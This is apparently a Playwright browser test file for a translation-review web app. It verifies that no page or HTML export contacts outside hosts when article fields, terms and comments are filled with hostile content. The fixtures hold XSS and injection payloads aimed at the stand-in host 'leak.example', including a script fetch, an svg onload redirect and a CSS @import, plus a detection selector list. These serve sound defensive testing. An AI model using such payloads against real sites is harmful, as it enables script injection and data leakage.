"""Nothing leaves the machine: every page and every export, in a browser whose network is
watched.
"""

from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect
from sqlalchemy import Engine
from sqlmodel import col, select

from glossary.term import Term, TermKind
from review.export import FORMATS, export_article
from review.export.gathering import gather_article
from review.pages.kept_in_browser import NAME
from review.segments.workflow import confirm, edit_target
from review.store.comments import add_comment
from review.store.database import reading, writing
from review.store.tables import Article, Segment, stored_id
from review.terms.stored import TermFilter, add_terms, find_terms
from tests.browser.conftest import Server, await_script

_OUTSIDE = "leak.example"
# What a browser fetches or runs when it takes a text for Markdown, HTML or CSS.
_HOSTILE = (
    f"![x](http://{_OUTSIDE}/1.png) <img src='http://{_OUTSIDE}/2.png'> [x](http://{_OUTSIDE}/3) "
    f"<script>fetch('http://{_OUTSIDE}/4')</script> <style>@import "
    f"'http://{_OUTSIDE}/5.css'</style> "
    f"<http://{_OUTSIDE}/6> :red[x] $x$ <svg onload=\"location='http://{_OUTSIDE}/7'\">"
)
_POINTS_OUTSIDE = (
    f"img[src*='{_OUTSIDE}'], a[href*='{_OUTSIDE}'], link[href*='{_OUTSIDE}'], "
    f"script[src*='{_OUTSIDE}'], iframe, object, embed, [style*='{_OUTSIDE}']"
)
# Where the enemy's words are read, and where none are.
_TELLING = (
    "",
    "for-me",
    f"search?words={_OUTSIDE}",
    "review?article={article}",
    "compare?article={article}",
    "update?article={article}",
    "facts?article={article}",
    "people?article={article}",
    "glossary?term={term}",
    "glossary?article={article}",
    "export?article={article}",
    "reports",
)
_SILENT = (
    "add",
    "add-draft",
    "compare",
    "glossary?part=proposals",
    "glossary?part=import",
    "glossary?part=export",
    "glossary?part=duplicates",
    "import",
    "jobs",
    "settings",
    "help",
)
_LONG = 60_000


@pytest.fixture
def hostile(engine: Engine, article: int) -> int:
    """An article whose every field, term, comment and memory is written by an enemy."""
    with writing(engine) as session:
        stored = session.get_one(Article, article)
        stored.name = (_HOSTILE + ".txt")[:255]
        stored.title = stored.byline = stored.owner = _HOSTILE[:120]
        stored.desk = f"![x](http://{_OUTSIDE}/8.png)"
        term = Term(f"Capece ![x](http://{_OUTSIDE}/9.png)", _HOSTILE, TermKind.ORGANISATION)
        add_terms(session, [term], author="Ana")
        query = select(Segment).where(Segment.article_id == article).order_by(col(Segment.position))
        for segment in session.exec(query).all()[:3]:
            segment.source = f"{segment.source} {_HOSTILE}"
            identifier = stored_id(segment)
            add_comment(session, identifier, text=f"@Ana {_HOSTILE}", author=_HOSTILE[:120])
            edited = edit_target(
                session,
                identifier,
                target=f"{segment.target} {_HOSTILE}",
                version=segment.version,
                author="Ana",
            )
            confirm(session, identifier, version=edited.version, author="Ana")
    return article


@pytest.fixture
def watched(chromium: Browser, server: Server) -> Iterator[tuple[Page, list[str]]]:
    """A page, and the list of whatever it asks of another host than the server."""
    context = chromium.new_context(viewport={"width": 1440, "height": 900}, locale="en-GB")
    context.set_default_timeout(20_000)
    own = f"127.0.0.1:{server.port}"
    context.add_cookies([{"name": NAME, "value": "Ana", "url": f"http://{own}"}])
    asked: list[str] = []

    def note(address: str) -> None:
        parts = urlsplit(address)
        if parts.scheme in {"http", "https", "ws", "wss"} and parts.netloc != own:
            asked.append(address)

    context.on("request", lambda request: note(request.url))
    page = context.new_page()
    page.on("websocket", lambda socket: note(socket.url))
    yield page, asked
    context.close()


def _pointing_outside(page: Page) -> list[str]:
    return [
        found.evaluate("element => element.outerHTML")
        for found in page.locator(_POINTS_OUTSIDE).all()
    ]


def test_no_page_asks_anything_of_anybody_else(
    watched: tuple[Page, list[str]], server: Server, hostile: int, engine: Engine
) -> None:
    """With an enemy's words in every field, no page fetches anything from outside or links
    there.
    """
    page, asked = watched
    with reading(engine) as session:
        found, _total = find_terms(session, TermFilter(_OUTSIDE))
        term = stored_id(found[0])
    seen = page.get_by_text(_OUTSIDE).filter(visible=True).first
    for address in (*_TELLING, *_SILENT):
        asked_for = address.format(article=hostile, term=term)
        page.goto(f"http://127.0.0.1:{server.port}/{asked_for}")
        if address in _TELLING:
            expect(seen).to_be_visible(timeout=_LONG)
        await_script(page, timeout=_LONG)
        assert _pointing_outside(page) == [], address
    page.goto(f"http://127.0.0.1:{server.port}/memory")
    page.get_by_label("Words to find").fill(_OUTSIDE)
    page.keyboard.press("Enter")
    expect(seen).to_be_visible(timeout=_LONG)
    await_script(page)
    assert _pointing_outside(page) == []
    assert asked == []


def test_a_page_that_is_not_there_asks_nothing_either(
    watched: tuple[Page, list[str]], server: Server
) -> None:
    """Errors offer no outside search, and a wrong address stays here."""
    page, asked = watched
    for address, said in (
        ("nowhere", "There is no page “nowhere” here."),
        ("review?article=999999", "there is no such article"),
        ("glossary?term=999999", "it is not in the glossary"),
    ):
        page.goto(f"http://127.0.0.1:{server.port}/{address}")
        expect(page.get_by_text(said)).to_be_visible(timeout=_LONG)
        await_script(page)
        assert page.get_by_role("link", name="Ask").count() == 0
        assert page.locator("a[href^='http']:not([href*='127.0.0.1'])").count() == 0, address
    assert asked == []


def test_no_export_asks_anything_of_anybody(
    watched: tuple[Page, list[str]], hostile: int, engine: Engine, tmp_path: Path
) -> None:
    """An exported web page, opened as a file, shows the enemy's words as words."""
    page, asked = watched
    with reading(engine) as session:
        article = gather_article(session, hostile)
    for one in FORMATS:
        path = tmp_path / f"{one.identifier}.{one.extension}"
        path.write_bytes(export_article(article, one.identifier))
        if one.extension != "html":
            continue
        page.goto(path.as_uri())
        assert _pointing_outside(page) == [], one.identifier
        assert page.locator("script").count() == 0
    assert asked == []
